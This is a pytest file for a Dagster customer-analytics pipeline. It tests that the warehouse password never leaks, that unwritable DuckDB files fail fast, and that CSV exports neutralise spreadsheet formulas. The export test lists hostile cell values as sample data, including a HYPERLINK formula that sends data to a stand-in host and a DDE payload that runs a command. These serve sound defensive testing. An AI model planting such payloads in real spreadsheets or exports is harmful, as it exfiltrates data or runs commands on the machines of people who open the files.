"""Secrets and hostile content (issue 8): no warehouse password in any output, log, run record or
error, whatever the URL's shape; a warehouse file that cannot be written fails at once with its
cause instead of being retried for minutes; an exported CSV cell never runs as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import os
import shutil
import sqlite3
import subprocess
import sys
import time
import uuid
import zlib
from contextlib import closing, contextmanager
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from pg_schemas import drop_schema
import sqlalchemy as sa
from dagster import AssetKey, DagsterEventType, DagsterInstance, EnvVar, Failure
from dagster._core.remote_representation.external_data import RepositorySnap
from dagster._core.snap import JobSnap
from dagster._serdes import serialize_value

from assets.policies import fail_fast_on_permanent_errors
from pipelines.definitions import build_definitions
from pipelines.jobs import DAILY_JOB_NAME
from rekindle.export import export_inactive_customers
from rekindle.settings import Settings
from resources.warehouse import WarehouseResource, is_transient_error

SECRET = "S3cretPW-xyz"  # PostgreSQL on 127.0.0.1 trusts every local login: the password is ignored
SECRET_URL = f"postgresql+psycopg://postgres:{SECRET}@127.0.0.1:5432/test"
REKINDLE = Path(sys.executable).parent / "rekindle"  # the console script, as users run it


# =========================================================================================
# the password stays out of Dagster's config, snapshots and run records
# =========================================================================================


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # raised inside Dagster's RepositorySnap
def test_resource_config_names_the_variable_not_the_password(monkeypatch):
    # Dagster shows resource config in the UI and stores the job snapshot with every run
    monkeypatch.setenv("REKINDLE_WAREHOUSE_URL", SECRET_URL.replace("+psycopg", ""))  # bare postgresql:// too
    defs = build_definitions(Settings.from_env())
    job = defs.resolve_job_def(DAILY_JOB_NAME)
    job_snapshot = serialize_value(JobSnap.from_job_def(job))
    repository_snapshot = serialize_value(RepositorySnap.from_def(defs.get_repository_def()))
    assert SECRET not in job_snapshot and SECRET not in repository_snapshot
    assert "REKINDLE_WAREHOUSE_URL" in repository_snapshot
    assert isinstance(defs.resources["warehouse"].url, EnvVar)


def test_a_url_not_from_the_environment_stays_plain_config(monkeypatch):
    monkeypatch.delenv("REKINDLE_WAREHOUSE_URL", raising=False)
    defs = build_definitions(Settings(warehouse_url="duckdb:///w.duckdb"))
    assert defs.resources["warehouse"].url == "duckdb:///w.duckdb"
    assert not isinstance(defs.resources["warehouse"].url, EnvVar)


def test_the_resource_normalizes_a_bare_postgresql_url():
    # what EnvVar hands the resource is the variable as typed, not the settings' normalized URL
    warehouse = WarehouseResource(url=f" postgresql://postgres:{SECRET}@127.0.0.1:5432/test ")
    assert not warehouse.is_duckdb
    assert warehouse.engine.dialect.driver == "psycopg"  # no connection is made here
    warehouse.dispose()


@pytest.mark.postgres
@pytest.mark.parametrize(
    ("url", "cause"),
    [
        (SECRET_URL.replace(":5432/", ":1/"), "Connection refused"),
        (SECRET_URL.replace("/test", "/no_such_db"), 'database "no_such_db" does not exist'),
        (SECRET_URL.replace("postgres:", "nobody:"), 'role "nobody" does not exist'),
        (SECRET_URL.replace("@127.0.0.1", "@no-such-host.invalid"), "failed to resolve host"),
    ],
)
def test_connection_errors_name_the_cause_not_the_password(postgres_server, url, cause):
    warehouse = WarehouseResource(url=url, schema_name="analytics")
    with pytest.raises(sa.exc.OperationalError) as error:
        warehouse.ensure_tables()
    warehouse.dispose()
    assert cause in str(error.value) and SECRET not in str(error.value)


def _stored_bytes(path: Path) -> bytes:
    """The file's bytes and, for a SQLite database, every cell of every table with zlib-compressed
    blobs inflated: Dagster stores job snapshots (resource config included) compressed, where a
    plain grep of the file cannot see them."""
    content = path.read_bytes()
    if not content.startswith(b"SQLite format 3"):
        return content
    cells = [content]
    with closing(sqlite3.connect(path)) as db:
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
            for row in db.execute(f'SELECT * FROM "{table}"'):
                for cell in row:
                    if isinstance(cell, bytes):
                        try:
                            cell = zlib.decompress(cell)
                        except zlib.error:
                            pass
                    cells.append(cell if isinstance(cell, bytes) else str(cell).encode())
    return b"\n".join(cells)


def _assert_no_secret(*outputs: str, folders: tuple[Path, ...] = ()) -> None:
    for output in outputs:
        assert SECRET not in output, output
    for folder in folders:
        files = [path for path in folder.rglob("*") if path.is_file()]
        leaking = [path for path in files if SECRET.encode() in _stored_bytes(path)]
        assert not leaking, f"the password is stored in {leaking}"


@pytest.mark.slow
@pytest.mark.postgres
def test_no_password_in_output_logs_or_run_records(postgres_server, tmp_path):
    end = date(2026, 3, 10)
    landing, home, docs, export = tmp_path / "landing", tmp_path / "dagster_home", tmp_path / "docs", tmp_path / "out"
    schema = f"rekindle_secret_{uuid.uuid4().hex[:10]}"
    env = {
        **os.environ,
        "GX_ANALYTICS_ENABLED": "False",
        "REKINDLE_WAREHOUSE_URL": SECRET_URL,
        "REKINDLE_SCHEMA": schema,
        "REKINDLE_LANDING_DIR": str(landing),
        "REKINDLE_START_DATE": str(end - timedelta(days=4)),
        "REKINDLE_QUALITY_DOCS_DIR": str(docs),
        "DAGSTER_HOME": str(home),
    }

    def rekindle(*args: str, **overrides: str) -> subprocess.CompletedProcess:
        return subprocess.run([str(REKINDLE), *args], env={**env, **overrides}, capture_output=True, text=True,
                              timeout=600, cwd=tmp_path)

    generated = rekindle("generate", "--out", str(landing), "--customers", "200", "--days", "5", "--end", str(end))
    assert generated.returncode == 0, generated.stderr
    try:
        # a successful run on PostgreSQL, then the export from it
        run = rekindle("run", "--end", str(end))
        assert run.returncode == 0, run.stdout + run.stderr
        assert "postgresql+psycopg://postgres:***@127.0.0.1:5432/test" in run.stdout  # the URL, redacted
        exported = rekindle("export", "inactive-customers", "--out", str(export / "list.csv"))
        assert exported.returncode == 0, exported.stderr
        # the warehouse is unreachable: the run and the export fail, and say why
        wrong_port = SECRET_URL.replace(":5432/", ":1/")
        refused = rekindle("run", "--end", str(end), REKINDLE_WAREHOUSE_URL=wrong_port)
        assert refused.returncode == 1 and "Connection refused" in refused.stdout + refused.stderr
        refused_export = rekindle("export", "inactive-customers", "--out", str(export / "no.csv"),
                                  REKINDLE_WAREHOUSE_URL=wrong_port)
        assert refused_export.returncode == 1 and "Connection refused" in refused_export.stderr
        # bad settings: exit 2 with a message naming the variable
        bad_settings = [
            rekindle("run", REKINDLE_WAREHOUSE_URL=SECRET_URL.replace(":5432/", ":abc/")),
            rekindle("run", REKINDLE_WAREHOUSE_URL=SECRET_URL.replace("postgresql+psycopg", "postgres")),
            rekindle("run", REKINDLE_INACTIVITY_DAYS="abc"),
        ]
        assert [done.returncode for done in bad_settings] == [2, 2, 2]
        assert all("rekindle: REKINDLE_" in done.stderr for done in bad_settings)

        outputs = [text for done in (run, exported, refused, refused_export, *bad_settings)
                   for text in (done.stdout, done.stderr)]
        # the instance's SQLite run and event storage, compute logs, GX Data Docs, the export
        _assert_no_secret(*outputs, folders=(home, docs, export, landing))
        # and the search looks where the config is kept: the job snapshot names the variable
        assert any(b"REKINDLE_WAREHOUSE_URL" in _stored_bytes(db) for db in home.rglob("*.db"))
    finally:
        drop_schema(postgres_server, schema)


# =========================================================================================
# a warehouse file that cannot be written is a permanent error
# =========================================================================================


def _connect_error(path: str) -> BaseException:
    """The error SQLAlchemy raises when DuckDB cannot open `path`."""
    engine = sa.create_engine(f"duckdb:///{path}")
    try:
        with pytest.raises(sa.exc.OperationalError) as error:
            engine.connect()
        return error.value
    finally:
        engine.dispose()


def test_unwritable_warehouse_files_fail_fast_lock_conflicts_are_retried(tmp_path):
    (tmp_path / "a_file").write_text("not a folder\n")
    (tmp_path / "text.duckdb").write_text("not a database\n")
    unopenable = {
        "permission denied": "/sys/w.duckdb",  # sysfs refuses new files, even to root
        "no such file or directory": "/proc/self/no_such_folder/w.duckdb",
        "not a directory": f"{tmp_path}/a_file/w.duckdb",
        "is a directory": str(tmp_path),
        "not a valid duckdb database file": f"{tmp_path}/text.duckdb",
    }
    for reason, path in unopenable.items():
        error = _connect_error(path)
        assert reason in str(error).lower()
        assert not is_transient_error(error), reason

        @fail_fast_on_permanent_errors
        def asset_body(error=error):
            raise error

        with pytest.raises(Failure) as failure:
            asset_body()
        assert failure.value.allow_retries is False and reason in failure.value.description.lower()

    # still transient: another process holds the file, the server refuses connections for now
    lock = duckdb.IOException('IO Error: Could not set lock on file "w.duckdb": Conflicting lock is held')
    assert is_transient_error(sa.exc.OperationalError("connect", {}, lock))
    refused = sa.exc.OperationalError("SELECT 1", {}, ConnectionRefusedError("connection refused"))
    assert is_transient_error(refused)


@contextmanager
def read_only_folder(folder: Path):
    """`folder` where no file can be created; tests run as root, who ignores permission bits, so
    the folder is made immutable (chattr +i) then, and the test skips where that is impossible."""
    if os.geteuid() == 0:
        done = subprocess.run(["chattr", "+i", str(folder)], capture_output=True, text=True) \
            if shutil.which("chattr") else None
        if done is None or done.returncode != 0:
            pytest.skip(f"cannot make a read-only folder here: {done.stderr if done else 'no chattr'}")
        undo = ["chattr", "-i", str(folder)]
    else:
        folder.chmod(0o555)
        undo = None
    try:
        try:
            (folder / "probe").touch()
        except OSError:
            pass
        else:
            pytest.skip("the folder still takes new files")
        yield folder
    finally:
        if undo:
            subprocess.run(undo, check=True)
        else:
            folder.chmod(0o755)


@pytest.mark.slow
def test_a_read_only_warehouse_folder_fails_the_run_at_once(tmp_path):
    # the DuckDB file opens, but no commit can write the .wal next to it
    folder = tmp_path / "warehouse"
    folder.mkdir()
    settings = Settings(landing_dir=tmp_path, warehouse_url=f"duckdb:///{folder}/w.duckdb", start_date=date(2026, 5, 1))
    warehouse = WarehouseResource(url=settings.warehouse_url, schema_name=settings.schema)
    warehouse.ensure_tables()
    warehouse.dispose()
    job = build_definitions(settings).resolve_job_def(DAILY_JOB_NAME)
    (tmp_path / "home").mkdir()
    with read_only_folder(folder), DagsterInstance.local_temp(str(tmp_path / "home")) as instance:
        started = time.monotonic()
        result = job.execute_in_process(
            instance=instance, asset_selection=[AssetKey("lifecycle_daily")], partition_key="2026-05-01",
            raise_on_error=False,
        )
        took = time.monotonic() - started
    assert not result.success
    assert DagsterEventType.STEP_UP_FOR_RETRY not in [event.event_type for event in result.all_events]
    [failure] = [e for e in result.all_events if e.event_type == DagsterEventType.STEP_FAILURE]
    message = failure.step_failure_data.error.message
    assert "permanent error: not retried" in message and "w.duckdb.wal" in message  # the cause, named
    assert took < 60  # the first retry alone would wait 15 s, all three about 105 s


# =========================================================================================
# the exported win-back list is safe to open in a spreadsheet
# =========================================================================================


def test_export_neutralizes_spreadsheet_formulas(duckdb_warehouse, tmp_path):
    day = date(2025, 6, 30)
    hostile_ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)",
                   "\tleading tab", "\rleading return"]
    rows = [
        {"as_of_date": day, "customer_id": customer_id, "last_active_date": day - timedelta(days=40),
         "days_inactive": 40, "inactivity_bucket": "30-59", "lifetime_orders": 1,
         "lifetime_revenue": Decimal(100 - i), "rfm_segment": "lost", "p_alive": 0.5, "expected_purchases_90d": 0.1}
        for i, customer_id in enumerate([*hostile_ids, "c-plain=ok"])
    ]
    # a negative amount (say, a refund correction) is a number, not a formula: it stays as it is
    rows.append({**rows[-1], "customer_id": "c-refund", "lifetime_revenue": Decimal("-5.5")})
    with duckdb_warehouse.begin() as conn:
        conn.execute(duckdb_warehouse.table("inactive_customers").insert(), rows)
    path = tmp_path / "winback.csv"
    with duckdb_warehouse.engine.connect() as conn:
        assert export_inactive_customers(conn, duckdb_warehouse.schema_name, path) == 8
    with path.open(newline="") as f:
        lines = list(csv.reader(f))
    by_id = {line[1]: line for line in lines[1:]}
    assert set(by_id) == {"'" + customer_id for customer_id in hostile_ids} | {"c-plain=ok", "c-refund"}
    assert by_id["c-refund"][6] == "-5.5000" and by_id["c-plain=ok"][6] == "94.0000"
    assert by_id["'@SUM(A1:A9)"][3:5] == ["40", "30-59"]  # the other cells are untouched
